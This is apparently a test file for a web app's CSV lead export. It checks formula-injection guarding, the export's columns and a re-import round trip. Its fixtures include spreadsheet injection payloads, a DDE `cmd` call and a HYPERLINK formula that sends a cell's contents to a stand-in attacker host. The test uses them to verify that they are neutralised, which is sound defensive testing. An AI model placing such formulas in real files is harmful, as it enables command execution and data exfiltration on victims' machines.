/**
 * The CSV export through its route: formula guard, columns (id, all assignees, UTC creation time),
 * and a re-import of the downloaded file into a second organization giving the same leads.
 */
import { eq } from 'drizzle-orm'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { createDb } from '../src/db/client'
import { leadAssignees, leads, organizations } from '../src/db/schema'
import { type Client, createLead, env, joinAs, signUp, uploadAndConfirm } from './helpers'
import { reloadUntil } from './poll'

const db = () => createDb(env.DB)

async function orgLeads(slug: string) {
  const org = await db().select().from(organizations).where(eq(organizations.slug, slug)).get()
  return db().select().from(leads).where(eq(leads.orgId, org!.id)).all()
}

/** Uploads `csv` through the import form, confirms the mapping step, and reloads the import page until it reports done. */
async function importThroughRoute(client: Client, slug: string, csv: string) {
  return reloadUntil(client, await uploadAndConfirm(client, slug, 'leads.csv', csv), 'data-status="done"')
}

const fieldsOf = (l: typeof leads.$inferSelect) => ({
  name: l.name,
  email: l.email,
  phone: l.phone,
  company: l.company,
  source: l.source,
  status: l.status,
})

describe('CSV export', () => {
  it('guards formula cells, lists id, assignees and UTC time, and reads back into another organization unchanged', async () => {
    const owner = await signUp('Export Source')
    // Single lines: the forms refuse line breaks, U+2028 included, and the import folds them (lib/text.ts);
    // test/properties.test.ts guards legacy ones.
    const agentName = `=cmd|' /C calc'!A0 Agent`
    const agent = await joinAs(owner.client, owner.slug, 'agent', agentName)
    const tricky = {
      name: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
      email: 'ada@example.com',
      phone: '+49 30 1234567',
      company: '@SUM(1) 2',
      source: '-web\u00a0ads',
      status: 'qualified',
    }
    const trickyId = await createLead(owner.client, owner.slug, tricky)
    const plainId = await createLead(owner.client, owner.slug, {
      name: "'Tis the season",
      email: '+tag@example.com',
      phone: '',
      company: 'Acme, "Inc.", Berlin',
      source: "'=not a guard",
      status: 'won',
    })
    const unicodeId = await createLead(owner.client, owner.slug, {
      name: 'Zoë 漢字 😀',
      email: '',
      phone: '-12',
      company: '\tTabbed',
      source: 'Ünïcödé; séparé',
      status: 'new',
    })
    const assigned = await owner.client.post(`/o/${owner.slug}/leads/${trickyId}/assign`, {
      assigneeId: agent.userId,
    })
    expect(assigned.status).toBe(303)
    // A collaborator besides the primary assignee (the multiple-assignee setting's row).
    const ownerUser = await env.DB.prepare('SELECT id FROM users WHERE email = ?')
      .bind(owner.email)
      .first<{ id: string }>()
    const lead = await db().select().from(leads).where(eq(leads.id, trickyId)).get()
    await db()
      .insert(leadAssignees)
      .values({ orgId: lead!.orgId, leadId: trickyId, userId: ownerUser!.id, kind: 'collaborator', assignedAt: 1 })

    const res = await owner.client.get(`/o/${owner.slug}/leads/export.csv`)
    expect(res.status).toBe(200)
    expect(res.headers.get('Content-Type')).toMatch(/^text\/csv/)
    const csv = await res.text()
    const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n' }).data
    expect(rows[0]).toEqual([
      'Lead ID',
      'Name',
      'Email',
      'Phone',
      'Company',
      'Source',
      'Status',
      'Assigned to',
      'Created (UTC)',
    ])
    const byId = new Map(rows.slice(1).map((r) => [r[0], r]))
    expect([...byId.keys()].sort()).toEqual([trickyId, plainId, unicodeId].sort())
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/)
    expect(byId.get(trickyId)).toEqual([
      trickyId,
      `'${tricky.name}`,
      tricky.email,
      `'${tricky.phone}`,
      `'${tricky.company}`,
      `'${tricky.source}`,
      'Qualified',
      `'${agentName}; Ana Owner`, // primary first, guarded because the agent's name starts with =
      expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/),
    ])
    expect(byId.get(plainId)!.slice(1, 8)).toEqual([
      "'Tis the season",
      "'+tag@example.com",
      '',
      'Acme, "Inc.", Berlin',
      "''=not a guard",
      'Won',
      '',
    ])
    const created = (await db().select().from(leads).where(eq(leads.id, plainId)).get())!.createdAt
    expect(byId.get(plainId)![8]).toBe(new Date(created).toISOString().slice(0, 19).replace('T', ' '))

    const target = await signUp('Export Target')
    const report = await importThroughRoute(target.client, target.slug, csv)
    expect(report).toMatch(/data-count="created">3</)
    expect(report).toMatch(/data-count="rejected">0</)

    const source = new Map((await orgLeads(owner.slug)).map((l) => [l.email || l.name, fieldsOf(l)]))
    const copied = new Map((await orgLeads(target.slug)).map((l) => [l.email || l.name, fieldsOf(l)]))
    expect(copied.size).toBe(3)
    expect(copied).toEqual(source)
    expect(copied.get('ada@example.com')).toEqual(tricky)
  })
})
